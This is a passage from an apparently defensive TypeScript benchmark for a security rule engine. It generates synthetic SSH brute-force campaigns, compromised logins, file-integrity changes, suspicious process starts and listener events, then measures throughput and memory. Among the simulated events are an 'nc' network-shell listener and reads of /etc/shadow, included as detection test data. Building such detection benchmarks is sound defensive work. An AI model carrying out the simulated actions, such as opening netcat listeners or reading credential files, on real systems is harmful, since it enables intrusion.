          ? ['password', undefined, `Failed password for ${user} from ${campaign.address} port ${port} ssh2`]
          : style < 0.9
            ? ['invalid_user', 'invalid user', `Invalid user ${user} from ${campaign.address} port ${port}`]
            : [
                'preauth',
                'closed before authentication',
                `Connection closed by authenticating user ${user} ${campaign.address} port ${port} [preauth]`,
              ];
      event = make(device, 'auth.login_failed', {
        user,
        sourceAddress: campaign.address,
        sourcePort: port,
        method,
        ...(reason === undefined ? {} : { reason }),
        program: 'sshd',
        pid,
        source: '/var/log/auth.log',
        line: authLine(device, pid, message),
      });
      campaign.left -= 1;
      if (campaign.left <= 0) campaigns[slot] = newCampaign();
    } else if (roll < 0.6) {
      const device = pick(random, devices);
      const compromise = random() < 0.002 ? pick(random, campaigns) : undefined;
      const user = compromise === undefined ? pick(random, device.admins) : compromise.users(random);
      const address =
        compromise?.address ??
        (random() < 0.01
          ? publicIpv4(random)
          : `10.${20 + device.site}.${between(random, 0, 3)}.${between(random, 2, 250)}`);
      const method = random() < 0.8 ? 'publickey' : 'password';
      const port = between(random, 1024, 65_535);
      const pid = between(random, 1000, 60_000);
      const key = method === 'publickey' ? `: ED25519 SHA256:${hex(random, 43)}` : '';
      event = make(device, 'auth.login_succeeded', {
        user,
        sourceAddress: address,
        sourcePort: port,
        method,
        program: 'sshd',
        pid,
        source: '/var/log/auth.log',
        line: authLine(device, pid, `Accepted ${method} for ${user} from ${address} port ${port} ssh2${key}`),
      });
    } else if (roll < 0.8) {
      const device = pick(random, devices);
      const change = random();
      const type =
        change < 0.55
          ? 'fim.modified'
          : change < 0.75
            ? 'fim.created'
            : change < 0.9
              ? 'fim.deleted'
              : 'fim.permissions_changed';
      event = make(device, type, {
        path: filePath(random, device),
        before: type === 'fim.created' ? null : fileState(random),
        after: type === 'fim.deleted' ? null : fileState(random),
      });
    } else if (roll < 0.9) {
      const device = pick(random, devices);
      const [path, command] = pick(random, random() < 0.03 ? suspiciousCommands : benignCommands)(random);
      event = make(device, 'host.executable_started', {
        path,
        pid: between(random, 300, 4_000_000),
        deleted: false,
        command,
      });
    } else if (random() < 0.5) {
      const device = pick(random, devices);
      const [process, port] = pick(random, [
        ['sshd', 22],
        ['nginx', 443],
        ['nginx', 80],
        ['mosquitto', 1883],
        ['mosquitto', 8883],
        ['modbus-gw', 502],
        ['snmpd', 161],
        ['dnsmasq', 53],
        ['node_exporter', 9100],
        ['python3', between(random, 8000, 8999)],
        ['nc', between(random, 1024, 65_535)],
      ] as const);
      event = make(device, 'host.listener_added', {
        protocol: port === 161 || port === 53 ? 'udp' : 'tcp',
        address: pick(random, ['0.0.0.0', '::', '127.0.0.1', `10.${20 + device.site}.0.1`]),
        port,
        process,
      });
    } else {
      const device = pick(random, devices);
      const kind = random();
      if (kind < 0.3)
        event = make(device, 'agent.collector_error', {
          collector: pick(random, ['auth-log', 'fim', 'inventory']),
          operation: pick(random, ['read', 'scan', 'stat']),
          code: pick(random, ['EACCES', 'ENOENT', 'EIO']),
          message: `could not read ${pick(random, ['/var/log/auth.log', '/etc/shadow', '/proc/net/tcp6'])}`,
        });
      else if (kind < 0.55)
        event = make(device, 'agent.queue_pressure', {
          bytes: between(random, 40, 64) * 2 ** 20,
          maxBytes: 64 * 2 ** 20,
          events: between(random, 100_000, 400_000),
          oldestTime: time - between(random, 60_000, 3_600_000),
          lowSeverityPaused: random() < 0.5,
        });
      else if (kind < 0.75)
        event = make(device, 'agent.started', { version: '0.1.0', pid: between(random, 300, 40_000) });
      else if (kind < 0.9)
        event = make(device, 'agent.stopped', {
          reason: 'signal',
          uptimeMs: between(random, 1, 9) * 3_600_000,
        });
      else if (kind < 0.98)
        event = make(device, 'agent.config_changed', {
          previousHash: hex(random, 16),
          hash: hex(random, 16),
          changedKeys: ['uploadIntervalMs'],
        });
      else
        event = make(device, 'agent.loss_report', {
          reason: 'queue-full',
          evicted: { info: between(random, 1, 500) },
          refused: {},
          firstTime: time - 60_000,
          lastTime: time,
        });
    }
    all.push(event);
  }
  const batches: RuleEvent[][] = [];
  for (let start = 0; start < all.length; start += BATCH_SIZE)
    batches.push(all.slice(start, start + BATCH_SIZE));
  return { batches, events: all.length, devices: DEVICES, types, spanMs: time - TIMELINE_START };
}

// --- throughput ----------------------------------------------------------------------------------

export interface ThroughputRow {
  readonly label: string;
  readonly scope: RuleScope;
  /** Rules the engine runs in this scope (stats().rules). */
  readonly rules: number;
  readonly rates: number[];
  readonly matches: number;
  readonly signals: number;
  readonly updates: number;
  readonly late: number;
  readonly fieldOnly: boolean;
}

interface Round {
  readonly seconds: number;
  readonly signals: number;
  readonly updates: number;
  readonly stats: RuleEngineStats;
}

function runRound(rules: CompiledRuleSet, scope: RuleScope, events: BenchEvents): Round {
  const engine = new RuleEngine(rules, { scope, ...ENGINE_OPTIONS });
  let signals = 0;
  let updates = 0;
  const count = (out: readonly { readonly update: boolean }[]) => {
    for (const signal of out) {
      if (signal.update) updates += 1;
      else signals += 1;
    }
  };
  const started = performance.now();
  for (const batch of events.batches) count(engine.ingest(batch));
  count(engine.flush());
  const seconds = (performance.now() - started) / 1000;
  return { seconds, signals, updates, stats: engine.stats() };
}

// --- memory per group key --------------------------------------------------------------------------

export interface MemoryRow {
  readonly scope: RuleScope;
  /** Distinct accounts that each failed once, each from its own address. */
  readonly keys: number;
  readonly groups: number;
  readonly evictedGroups: number;
  readonly heapBytes: number;
}

const MEMORY_CHILD = 'rule-engine-memory';

/** A botnet's one try per account: N accounts, each from its own address, on one device, 2 ms apart. */
function memoryRun(scope: RuleScope, keys: number): MemoryRow {
  const gc = (globalThis as { gc?: () => void }).gc;
  if (gc === undefined) throw new Error('the memory run needs node --expose-gc');
  const rules = benchRuleSets().all;
  const engine = new RuleEngine(rules, { scope, ...ENGINE_OPTIONS });
  const heap = () => {
    gc();
    gc();
    return process.memoryUsage().heapUsed;
  };
  const before = heap();
  const deviceId = 'dev-memory-0001';
  let seq = 0;
  let time = TIMELINE_START;
  const event = (type: keyof typeof eventTypes, data: Record<string, unknown>): RuleEvent => {
    seq += 1;
    return { seq, id: `${deviceId}-${seq}`, type, severity: eventTypes[type], time, data, deviceId };
  };
  for (let start = 0; start < keys; start += BATCH_SIZE) {
    const batch: RuleEvent[] = [];
    for (let index = start; index < Math.min(keys, start + BATCH_SIZE); index++) {
      time += 2;
      const user = `${commonUsers[index % commonUsers.length]}${Math.floor(index / commonUsers.length)}`;
      const address = `${23 + Math.floor(index / 65_536)}.${Math.floor(index / 256) % 256}.${index % 256}.${1 + ((index * 7) % 254)}`;
      const port = 1024 + ((index * 131) % 60_000);
      batch.push(
        event('auth.login_failed', {
          user,
          sourceAddress: address,
          sourcePort: port,
          method: 'password',
          program: 'sshd',
          pid: 1000 + (index % 50_000),
          source: '/var/log/auth.log',
          line: `${syslogTime(time)} gw-lisbon-001 sshd[${1000 + (index % 50_000)}]: Failed password for ${user} from ${address} port ${port} ssh2`,
        }),
      );
    }
    engine.ingest(batch);
  }
  // An event past the allowed lateness releases every failed login waiting for the watermark.
  time += ENGINE_OPTIONS.allowedLatenessMs + 1;
  engine.ingest([event('agent.started', { version: '0.1.0', pid: 4242 })]);
  const after = heap();
  const stats = engine.stats();
  if (stats.buffered > 1) throw new Error(`${stats.buffered} events still wait for the watermark`);
  return { scope, keys, groups: stats.groups, evictedGroups: stats.evictedGroups, heapBytes: after - before };
}

function measureMemoryInChild(scope: RuleScope, keys: number): Promise<MemoryRow> {
  return new Promise((resolve, reject) => {
    const child = spawn(
      process.execPath,
      [...process.execArgv, '--expose-gc', fileURLToPath(import.meta.url), MEMORY_CHILD, scope, String(keys)],
      { stdio: ['ignore', 'pipe', 'inherit'] },
    );
    let output = '';
    child.stdout.setEncoding('utf8');
    child.stdout.on('data', (chunk: string) => {
      output += chunk;
    });
    child.on('error', reject);
    child.on('close', (code) => {
      if (code !== 0) reject(new Error(`the memory run (${scope}, ${keys} keys) exited with ${code}`));
      else resolve(JSON.parse(output) as MemoryRow);
    });
  });
}

// --- the section -----------------------------------------------------------------------------------

export interface RuleEngineFigures {
  readonly events: number;
  readonly devices: number;
  readonly batchSize: number;
  readonly spanMs: number;
  readonly types: Readonly<Record<string, number>>;
  readonly builtinRules: number;
  readonly generated: Readonly<Record<GeneratedKind, number>>;
  readonly rounds: number;
  readonly rows: ThroughputRow[];
  readonly memory: MemoryRow[];
}

export async function measureRuleEngine(options: {
  events: number;
  rounds: number;
  memoryKeys?: readonly number[];
  progress: (line: string) => void;
}): Promise<RuleEngineFigures> {
  const sets = benchRuleSets();
  const events = generateBenchEvents(options.events);
  options.progress(
    `rule engine: ${events.events} events from ${events.devices} devices, ${sets.all.rules.length} rules (${sets.builtinRules} built-in)`,
  );
  const configurations: { label: string; scope: RuleScope; rules: CompiledRuleSet; fieldOnly: boolean }[] = [
    { label: 'built-in + generated, as written', scope: 'agent', rules: sets.all, fieldOnly: false },
    {
      label: 'field matches only (no keyword rules)',
      scope: 'agent',
      rules: sets.fieldOnly,
      fieldOnly: true,
    },
    {
      label: 'built-in + generated, as written (hub rules only)',
      scope: 'hub',
      rules: sets.all,
      fieldOnly: false,
    },
    { label: 'built-in + generated with `scope: hub`', scope: 'hub', rules: sets.allOnHub, fieldOnly: false },
    {
      label: 'field matches only, generated with `scope: hub`',
      scope: 'hub',
      rules: sets.fieldOnlyOnHub,
      fieldOnly: true,
    },
  ];
  const rows: ThroughputRow[] = [];
  for (const configuration of configurations) {
    runRound(configuration.rules, configuration.scope, events);
    const rounds: Round[] = [];
    for (let round = 0; round < options.rounds; round++) {
      rounds.push(runRound(configuration.rules, configuration.scope, events));
    }
    const last = rounds.at(-1) as Round;
    const rates = rounds.map((round) => events.events / round.seconds);
    rows.push({
      label: configuration.label,
      scope: configuration.scope,
      rules: last.stats.rules,
      rates,
      matches: last.stats.matches,
      signals: last.signals,
      updates: last.updates,
      late: last.stats.late,
      fieldOnly: configuration.fieldOnly,
    });
    options.progress(
      `rule engine, ${configuration.scope}, ${configuration.label}: ${rates.map((rate) => Math.round(rate)).join(', ')} events/s`,
    );
  }
  const memory: MemoryRow[] = [];
  for (const scope of ['agent', 'hub'] as const) {
    for (const keys of options.memoryKeys ?? [10_000, 50_000, 100_000]) {
      const row = await measureMemoryInChild(scope, keys);
      memory.push(row);
      options.progress(
        `rule engine memory, ${scope}, ${keys} keys: ${row.groups} groups, ${(row.heapBytes / 2 ** 20).toFixed(1)} MB`,
      );
    }
  }
  return {
    events: events.events,
    devices: events.devices,
    batchSize: BATCH_SIZE,
    spanMs: events.spanMs,
    types: events.types,
    builtinRules: sets.builtinRules,
    generated: generatedCounts,
    rounds: options.rounds,
    rows,
    memory,
  };
}

if (import.meta.main && process.argv[2] === MEMORY_CHILD) {
  const scope = process.argv[3] as RuleScope;
  process.stdout.write(`${JSON.stringify(memoryRun(scope, Number(process.argv[4])))}\n`);
}
